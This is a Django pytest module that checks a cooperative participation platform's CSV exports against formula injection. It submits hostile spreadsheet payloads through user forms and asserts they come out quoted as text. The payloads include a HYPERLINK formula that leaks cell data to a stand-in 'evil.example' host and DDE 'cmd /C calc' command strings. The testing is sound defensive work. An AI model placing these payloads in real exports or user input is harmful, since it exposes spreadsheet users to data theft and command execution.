"""CSV formula injection (issue 13, finding 7): text that users write reaches every CSV
download as text, never as a spreadsheet formula.

Each export is attacked as it was in the review: a contribution, a proposal title, a member
name and a rule title that begin with a formula sign are written through the forms (or, for
the rule title, where an administrator keeps it), then the CSV is downloaded and read as a
spreadsheet would read it. A cell that starts with = + - @ (or a tab or carriage return) is
run as a formula; after the fix it starts with a single quote.

The list of CSV-producing URLs below is checked against the project's URL patterns, and no
module of the project may write CSV except through cooperative/exports.py, so a new export
cannot bypass the writer unnoticed."""

from __future__ import annotations

import ast
import csv
import inspect
import io
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.files.storage import default_storage
from django.db.models import F
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from cooperative.accounts.services import board_group_ensure
from cooperative.exports import CsvDictWriter, CsvWriter, csv_cell
from cooperative.governance.models import RuleDocument
from cooperative.governance.services import rule_version_publish
from cooperative.membership.models import Member
from participation.api.export import PLATFORM_CSV, open_data_export
from participation.comments.models import Comment
from participation.consultations.models import ConsultationPhase
from participation.proposals.models import Proposal
from tests.factories import UserFactory, consultation, log_in_with_second_factor
from tests.participation.moderation.transparency_data import make_comment, make_decision

BASE_DIR = Path(__file__).resolve().parent.parent
PROJECT_PACKAGES = ("config", "cms", "participation", "cooperative", "frontend")

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Quelle")'
COMMAND = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS_STARTS), (cell, row)


def finish(page) -> None:
    """The consultation's phases move 60 days into the past: its results are published."""
    ConsultationPhase.objects.filter(page=page).update(
        starts_at=F("starts_at") - timedelta(days=60), ends_at=F("ends_at") - timedelta(days=60)
    )
    ConsultationPhase.objects.filter(page=page, kind=ConsultationPhase.Kind.RESULT).update(
        ends_at=timezone.now() + timedelta(days=300)
    )


# --- the writer


@pytest.mark.parametrize(
    "text", [HYPERLINK, COMMAND, AT_SUM, MINUS, "\t=1+1", "\r=1+1", "-5", "\uff1d1+1"]
)
def test_text_that_starts_a_formula_is_written_behind_a_quote(text):
    out = io.StringIO()
    CsvWriter(out).writerow([text])
    (row,) = spreadsheet_cells(out.getvalue())
    assert row == ["'" + text]


def test_numbers_the_code_writes_stay_numbers_and_plain_text_stays_as_it_is():
    # A figure computed by the platform (a negative one too) must stay something a
    # spreadsheet can add up; the same characters typed by a user are text.
    out = io.StringIO()
    CsvWriter(out).writerow([-3, -2.5, Decimal("-1.25"), 0, True, None, "Radweg", "a=b", "-3"])
    (row,) = spreadsheet_cells(out.getvalue())
    assert row == ["-3", "-2.5", "-1.25", "0", "True", "", "Radweg", "a=b", "'-3"]
    assert csv_cell(-3) == -3
    assert csv_cell(" =1") == " =1"  # a leading space is not run as a formula


def test_the_dict_writer_neutralises_too_and_leaves_out_unknown_keys():
    out = io.StringIO()
    writer = CsvDictWriter(out, fieldnames=["type", "text"])
    writer.writeheader()
    writer.writerow({"type": "comment", "text": HYPERLINK, "secret": "x"})
    writer.writerow({"type": "comment"})
    assert spreadsheet_cells(out.getvalue()) == [
        ["type", "text"],
        ["comment", "'" + HYPERLINK],
        ["comment", ""],
    ]


# --- each export, attacked through the forms


@pytest.fixture
def attacker(db):
    return UserFactory(display_name="Angreiferin")


def test_consultation_data_csv_carries_a_formula_contribution_as_text(
    client, organisation_area, attacker
):
    _org, index = organisation_area
    page = consultation(index, title="Radwege", state="open")
    client.force_login(attacker)
    for body in (HYPERLINK, COMMAND):
        response = client.post(reverse("comment_create", args=[page.pk]), {"body": body})
        assert response.status_code in (200, 302), response.content[:300]
    response = client.post(
        reverse("proposal_create", args=[page.pk]),
        {"title": AT_SUM, "body": "Ein Vorschlag mit Formel im Titel.", "tags": ""},
    )
    assert response.status_code == 302, response.content[:300]
    assert Comment.objects.filter(consultation=page).count() == 2
    assert Proposal.objects.filter(consultation=page, title=AT_SUM).exists()
    client.logout()

    response = client.get(reverse("consultation_export", args=[page.pk, "csv"]))
    assert response.status_code == 200
    rows = spreadsheet_cells(b"".join(response.streaming_content).decode())
    assert_no_formula(rows)
    cells = {cell for row in rows for cell in row}
    assert {"'" + HYPERLINK, "'" + COMMAND, "'" + AT_SUM} <= cells


def test_platform_open_data_csv_carries_a_formula_contribution_as_text(
    client, organisation_area, attacker
):
    _org, index = organisation_area
    page = consultation(index, title="Radwege", state="open")
    client.force_login(attacker)
    client.post(reverse("comment_create", args=[page.pk]), {"body": HYPERLINK})
    assert Comment.objects.filter(consultation=page, body__contains="HYPERLINK").exists()

    open_data_export.enqueue()

    rows = spreadsheet_cells(default_storage.open(PLATFORM_CSV).read().decode())
    assert_no_formula(rows)
    assert "'" + HYPERLINK in {cell for row in rows for cell in row}


def test_results_csv_carries_a_formula_proposal_title_as_text(client, organisation_area, attacker):
    _org, index = organisation_area
    page = consultation(index, title="Radwege", state="open")
    client.force_login(attacker)
    response = client.post(
        reverse("proposal_create", args=[page.pk]),
        {"title": COMMAND, "body": "Ein Vorschlag mit Formel im Titel.", "tags": ""},
    )
    assert response.status_code == 302, response.content[:300]
    client.logout()
    finish(page)

    response = client.get(reverse("consultation_results_csv", kwargs={"consultation_id": page.pk}))
    assert response.status_code == 200
    rows = spreadsheet_cells(response.content.decode())
    assert_no_formula(rows)
    assert ["'" + COMMAND, "supports", "0"] in [row[2:3] + row[5:] for row in rows]


def test_member_register_csv_carries_a_formula_member_name_as_text(client, db, attacker):
    client.force_login(attacker)
    response = client.post(
        reverse("membership_mine"),
        {
            "applicant": "self",
            "member_group": "citizens",
            "shares": "1",
            "legal_name": HYPERLINK,
            "address": "@Lindenweg 5\n50667 Köln",
        },
    )
    assert response.status_code == 302
    member = Member.objects.get(legal_name=HYPERLINK)
    board = UserFactory(display_name="Vorstand")
    board.groups.add(board_group_ensure())
    log_in_with_second_factor(client, board)
    client.post(
        reverse("membership_decide", args=[member.pk]), {f"decide-{member.pk}-decision": "admit"}
    )
    member.refresh_from_db()
    assert member.number is not None

    response = client.get(reverse("member_register_csv"))
    assert response.status_code == 200
    rows = spreadsheet_cells(response.content.decode("utf-8"))
    assert_no_formula(rows)
    row = next(row for row in rows if row[0] == str(member.number))
    assert row[1:3] == ["'" + HYPERLINK, "'@Lindenweg 5\n50667 Köln"]


@pytest.mark.parametrize("how", ["csv route", "format parameter"])
def test_transparency_csv_carries_a_formula_rule_title_as_text(client, organisation_area, how):
    # Rule documents are kept by administrators; their titles label the grounds.
    document = RuleDocument.objects.create(slug="formel", title=MINUS)
    version = rule_version_publish(
        document=document, body="Keine Formeln.", in_force_from=timezone.now() - timedelta(days=5)
    )
    _org, index = organisation_area
    page = consultation(index, title="Radwege", state="open")
    comment = make_comment(page, UserFactory())
    make_decision(comment, timezone.now() - timedelta(hours=1), version=version, clause="1")

    if how == "csv route":
        response = client.get(reverse("moderation_transparency_report_csv"))
    else:
        response = client.get(reverse("moderation_transparency_report"), {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = spreadsheet_cells(response.content.decode())
    assert_no_formula(rows)
    assert any(cell.startswith("'" + MINUS) for row in rows for cell in row)


# --- no export without the writer

# URL names whose view can answer with CSV, each attacked above.
TESTED_CSV_URLS = {
    "consultation_export": test_consultation_data_csv_carries_a_formula_contribution_as_text,
    "consultation_results": test_results_csv_carries_a_formula_proposal_title_as_text,
    "consultation_results_csv": test_results_csv_carries_a_formula_proposal_title_as_text,
    "consultation_results_json": test_results_csv_carries_a_formula_proposal_title_as_text,
    "moderation_transparency_report": test_transparency_csv_carries_a_formula_rule_title_as_text,
    "moderation_transparency_report_csv": (
        test_transparency_csv_carries_a_formula_rule_title_as_text
    ),
    "member_register_csv": test_member_register_csv_carries_a_formula_member_name_as_text,
    # Offers the platform's CSV export (written by the task, attacked here).
    "open_data": test_platform_open_data_csv_carries_a_formula_contribution_as_text,
}


def _patterns(resolver: URLResolver, prefix: str = ""):
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            yield from _patterns(entry, prefix + str(entry.pattern))
        elif isinstance(entry, URLPattern):
            yield prefix + str(entry.pattern), entry


def _source(callback) -> str:
    view = inspect.unwrap(getattr(callback, "view_class", callback))
    if not (inspect.isfunction(view) or inspect.isclass(view)):
        view = type(view)
    try:
        return inspect.getsource(view)
    except (OSError, TypeError):
        return ""


def _csv_urls() -> set[str]:
    found = set()
    for route, pattern in _patterns(get_resolver()):
        module = getattr(inspect.unwrap(pattern.callback), "__module__", "") or ""
        if not module.startswith(PROJECT_PACKAGES):
            continue
        if "csv" in route.lower() or "csv" in _source(pattern.callback).lower():
            found.add(pattern.name or route)
    return found


def test_every_url_that_answers_with_csv_is_attacked_above():
    assert _csv_urls() == set(TESTED_CSV_URLS), (
        "A view that writes CSV was added or removed: write its attack test above (a "
        "formula in what users type reaches the file as text) and list it here."
    )


def test_no_module_writes_csv_except_through_the_one_writer():
    writer_module = BASE_DIR / "cooperative" / "exports.py"
    offenders = []
    for package in PROJECT_PACKAGES:
        for path in (BASE_DIR / package).rglob("*.py"):
            if path == writer_module or "migrations" in path.parts:
                continue
            tree = ast.parse(path.read_text(), filename=str(path))
            for node in ast.walk(tree):
                if isinstance(node, ast.Import) and any(a.name == "csv" for a in node.names):
                    offenders.append(f"{path.relative_to(BASE_DIR)}:{node.lineno}")
                if isinstance(node, ast.ImportFrom) and node.module == "csv":
                    offenders.append(f"{path.relative_to(BASE_DIR)}:{node.lineno}")
    assert offenders == [], "use cooperative.exports.CsvWriter / CsvDictWriter"
